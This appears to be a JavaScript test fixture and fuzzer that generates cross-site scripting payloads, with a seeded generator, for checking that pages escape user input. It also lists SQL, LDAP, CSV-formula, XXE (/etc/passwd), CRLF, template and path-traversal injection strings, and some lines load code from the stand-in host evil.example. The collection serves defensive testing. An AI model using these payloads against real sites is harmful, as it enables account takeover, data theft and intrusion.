// What somebody might write into a text field so that a page that shows it does more than show it. Each calls xss(n), should it ever run.

/** Written down: one of each trick that is known. `n` is the payload's number. */
const written = [
  (n) => `<script>xss(${n})</script>`, (n) => `<SCRIPT SRC=//evil.example/${n}.js></SCRIPT>`, (n) => `<scr<script>ipt>xss(${n})</scr</script>ipt>`, (n) => `<script/x>xss(${n})</script >`,
  (n) => `<script type=module>xss(${n})</script>`, (n) => `<img src=x onerror=xss(${n})>`, (n) => `<img src="x" onerror="xss(${n})" data-xss>`, (n) => `<img/src=x/onerror=xss(${n})>`, (n) => `<img src=\`x\` onerror=\`xss(${n})\`>`,
  (n) => `<image src=x onerror=xss(${n})>`, (n) => `<img srcset="x" onerror=xss(${n})>`, (n) => `<svg onload=xss(${n})>`, (n) => `<svg><script>xss(${n})</script></svg>`, (n) => `<svg/onload=xss(${n})//`,
  (n) => `<svg><animate onbegin=xss(${n}) attributeName=x dur=1s>`, (n) => `<svg><a xlink:href="javascript:xss(${n})"><text y=20>x</text></a></svg>`, (n) => `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload='xss(${n})'/>#x">`,
  (n) => `<svg><foreignObject><iframe srcdoc="<script>parent.xss(${n})</script>">`, (n) => `<svg><set attributeName=onmouseover to=xss(${n})>`, (n) => `<math><mtext><table><mglyph><style><img src=x onerror=xss(${n})>`,
  (n) => `<math href="javascript:xss(${n})">x</math>`, (n) => `<iframe src="javascript:parent.xss(${n})">`, (n) => `<iframe srcdoc="<img src=x onerror=parent.xss(${n})>">`, (n) => `<object data="javascript:xss(${n})">`, (n) => `<embed src="javascript:xss(${n})">`,
  (n) => `<body onload=xss(${n})>`, (n) => `<input autofocus onfocus=xss(${n})>`, (n) => `<select autofocus onfocus=xss(${n})>`, (n) => `<textarea autofocus onfocus=xss(${n})>`, (n) => `<details open ontoggle=xss(${n})>`,
  (n) => `<video><source onerror=xss(${n})>`, (n) => `<audio src=x onerror=xss(${n})>`, (n) => `<marquee onstart=xss(${n})>`, (n) => `<isindex action=javascript:xss(${n})>`, (n) => `<form action="javascript:xss(${n})"><button>x</button>`,
  (n) => `<button formaction="javascript:xss(${n})">x`, (n) => `<a href="javascript:xss(${n})">x</a>`, (n) => `<a href=" &#1; javascript:xss(${n})">x</a>`, (n) => `<a href="java&#x09;script:xss(${n})">x</a>`, (n) => `<a href="data:text/html,<script>xss(${n})</script>">x</a>`,
  (n) => `<base href="//evil.example/${n}/">`, (n) => `<meta http-equiv=refresh content="0;url=javascript:xss(${n})">`, (n) => `<link rel=stylesheet href="//evil.example/${n}.css">`, (n) => `<style>@import '//evil.example/${n}.css';</style>`, (n) => `<style>body{background:url(//evil.example/${n})}</style>`,
  (n) => `<div style="background:url(javascript:xss(${n}))" data-xss>`, (n) => `<div style="width:expression(xss(${n}))" data-xss>`, (n) => `<div style="position:fixed;inset:0;background:red" data-xss>`, (n) => `x;background:url(//evil.example/${n})`, (n) => `}body{display:none}/*${n}`,
  (n) => `"><script>xss(${n})</script>`, (n) => `'><script>xss(${n})</script>`, (n) => `" onmouseover="xss(${n})" x="`, (n) => `' onfocus='xss(${n})' autofocus x='`, (n) => `" autofocus onfocus=xss(${n}) data-xss="`, (n) => `\` onerror=xss(${n}) x=\``,
  (n) => `--><img src=x onerror=xss(${n})><!--`, (n) => `]]><img src=x onerror=xss(${n})>`, (n) => `</title><script>xss(${n})</script>`, (n) => `</textarea><script>xss(${n})</script>`, (n) => `</script><script>xss(${n})</script>`, (n) => `</style><script>xss(${n})</script>`,
  (n) => `</noscript><img src=x onerror=xss(${n})>`, (n) => `</select><img src=x onerror=xss(${n})>`, (n) => `*/xss(${n})/*`, (n) => `";xss(${n});//`, (n) => `';xss(${n});//`, (n) => `\\";xss(${n});//`, (n) => `"}];xss(${n});[{"x":"`,
  (n) => `"},"admin":true,"x":{"y":"${n}`, (n) => `{"__proto__":{"xss":${n}}}`, (n) => `","role":"admin","n":"${n}`, (n) => `{{constructor.constructor('xss(${n})')()}}`, (n) => `\${xss(${n})}`, (n) => `#{xss(${n})}`, (n) => `<%= xss(${n}) %>`,
  (n) => `{{7*7}}[[${n}]]`, (n) => `{%25 raw %25}${n}`, (n) => `<template><img src=x onerror=xss(${n})></template>`, (n) => `<x-y data-xss>${n}</x-y>`, (n) => `<slot onslotchange=xss(${n})>`, (n) => `<dialog open data-xss>${n}</dialog>`,
  (n) => `javascript:xss(${n})`, (n) => `JaVaScRiPt:xss(${n})`, (n) => `java\tscript:xss(${n})`, (n) => `vbscript:xss(${n})`, (n) => `data:text/html;base64,PHNjcmlwdD54c3MoMSk8L3NjcmlwdD4=#${n}`, (n) => `//evil.example/${n}`, (n) => `https://evil.example/?${n}`, (n) => `\\\\evil.example\\${n}`,
  (n) => `../../../../etc/passwd#${n}`, (n) => `..%2f..%2fapi%2fv1%2flogout?${n}`, (n) => `%3Cscript%3Exss(${n})%3C/script%3E`, (n) => `&lt;script&gt;xss(${n})&lt;/script&gt;`, (n) => `&#60;script&#62;xss(${n})&#60;/script&#62;`, (n) => `\\u003cscript\\u003exss(${n})\\u003c/script\\u003e`, (n) => `+ADw-script+AD4-xss(${n})+ADw-/script+AD4-`,
  (n) => `[x](javascript:xss(${n}))`, (n) => `![x](x"onerror="xss(${n}))`, (n) => `<javascript:xss(${n})>`, (n) => `[x]: javascript:xss(${n})`, (n) => `\`\`\`<script>xss(${n})</script>\`\`\``, (n) => `# <img src=x onerror=xss(${n})>`,
  (n) => `＜script＞xss(${n})＜/script＞`, (n) => `‹script›xss(${n})‹/script›`, (n) => `<ſcript>xss(${n})</ſcript>`, (n) => `<ıframe onload=xss(${n})>`, (n) => `<img src=x onerror=xss(${n})>`, (n) => `ʻ<b data-xss>${n}`, (n) => `\u202e>)${n}(ssx=rorreno x=crs gmi<`, (n) => `서울\u202e숲\u202c ${n}`,
  (n) => `\u2066<img src=x onerror=xss(${n})>\u2069`, (n) => `\ufeff<script>xss(${n})</script>`, (n) => `\u200b<s\u200bcript>xss(${n})</script>`, (n) => `\u2028xss(${n})\u2029`, (n) => `\u00ad<b data-xss>${n}</b>`, (n) => `Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L${n}`, (n) => `👩‍🚒🇰🇷<b data-xss>${n}`,
  (n) => `=cmd|'/c calc'!A${n}`, (n) => `@SUM(1+${n})*cmd|' /C calc'!A0`, (n) => `-2+3+cmd|' /C calc'!D${n}`, (n) => `';DROP TABLE incidents;--${n}`, (n) => `" OR "1"="1" --${n}`, (n) => `*)(uid=*))(|(uid=*${n}`, (n) => `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;${n}</x>`, (n) => `<!--#exec cmd="ls" -->${n}`,
  (n) => `constructor`.concat(n), () => "__proto__", () => "toString", () => "undefined", () => "null", () => "NaN", (n) => `{n}{name}{what}${n}`, (n) => `$&$1$\`$'${n}`, (n) => `%s%d%n${n}`,
];

/** With control characters, or what is no text at all: a door may refuse them, but by name. */
const controls = [
  (n) => `<scr\u0000ipt>xss(${n})</script>`, (n) => `<img src=x\u0000 onerror=xss(${n})>`, (n) => `\u0007\u0008${n}`, (n) => `\u001b]0;xss(${n})\u0007`, (n) => `a\r\nSet-Cookie: x=${n}`, (n) => `a\r\n\r\n<script>xss(${n})</script>`,
  (n) => `\u000b<b data-xss>${n}`, (n) => `\u000c<img/onerror=xss(${n}) src=x>`, (n) => `java\nscript:xss(${n})`, (n) => `\u007f<b data-xss>${n}`, (n) => `\u0085<b data-xss>${n}`, (n) => `\ud800<b data-xss>${n}`, (n) => `<b data-xss>\udfff${n}`,
];

/** A generator of whole numbers below `end`, the same for the same seed (mulberry32). */
export function dice(seed) {
  let state = seed >>> 0;
  return (end) => {
    state = (state + 0x6d2b79f5) >>> 0;
    let mixed = Math.imul(state ^ (state >>> 15), state | 1);
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61);
    return ((mixed ^ (mixed >>> 14)) >>> 0) % end;
  };
}

const before = ["", "\"", "'", "\">", "'>", "`", "-->", "]]>", "</script>", "</textarea>", "</p>", "}", ")", "\\", "\u202e", "\u200b", "\ufeff", "서울숲 ", "//", ";", "${", "{{"];
const events = ["onload", "onerror", "onfocus", "onmouseover", "onpointerenter", "onanimationstart", "ontoggle", "onbeforeinput", "onwheel", "oncontentvisibilityautostatechange"];
const tags = ["img", "svg", "video", "iframe", "input", "body", "object", "details", "a", "x-a", "math", "style", "button", "select", "keygen", "frameset", "portal"];
const spaces = [" ", "/", "\t", "  ", "/ /", "\u00a0"];

/** Of a tag, an event and a disguise: what a fuzzer would try. */
function bred(n, roll) {
  const one = (list) => list[roll(list.length)];
  const mixed = (word) => [...word].map((letter) => (roll(2) ? letter.toUpperCase() : letter)).join("");
  const quote = one(["", "\"", "'", "`"]);
  const call = one([`xss(${n})`, `xss\`${n}\``, `window['xss'](${n})`, `top.xss(${n})`, `&#120;ss(${n})`, `eval('xss(${n})')`, `import('//evil.example/${n}')`, `setTimeout\`xss\\x28${n}\\x29\``]);
  const tag = `${mixed(one(tags))}${one(spaces)}src=x${one(spaces)}${mixed(one(events))}=${quote}${call}${quote}${roll(3) ? "" : " data-xss"}`;
  const whole = one([`<${tag}>`, `<${tag}`, `<<${tag}>>`, `<${tag}//`, `<!--><${tag}>-->`, `<p title="<${tag}>">`, `<noscript><p title="</noscript><${tag}>">`]);
  return one(before) + whole;
}

/** `count` payloads: the written ones first, then those of `seed`. */
export function payloads(seed, count) {
  const roll = dice(seed);
  const all = written.map((make, n) => make(n));
  while (all.length < count - controls.length - 3) all.push(bred(all.length, roll));
  const long = [`<img src=x onerror=xss(9001)>`, "서울숲<b data-xss>", "\u202e<svg onload=xss(9002)>"].map((part) => part.repeat(Math.floor(480 / part.length)));
  return { plain: [...all, ...long], controls: controls.map((make, n) => make(9100 + n)) };
}

/** The payloads in as few texts as hold them, each of at most `most` letters (UTF-16 units, and bytes where `bytes`). */
export function packed(list, most, { bytes = false } = {}) {
  const size = (text) => (bytes ? Buffer.byteLength(text) : text.length);
  const texts = [];
  for (const each of list) {
    const last = texts.at(-1);
    if (last !== undefined && size(`${last} ¦ ${each}`) <= most) texts[texts.length - 1] = `${last} ¦ ${each}`;
    else if (size(each) <= most) texts.push(each);
    else texts.push(each.slice(0, Math.floor(most / (bytes ? 4 : 1))));
  }
  return texts;
}
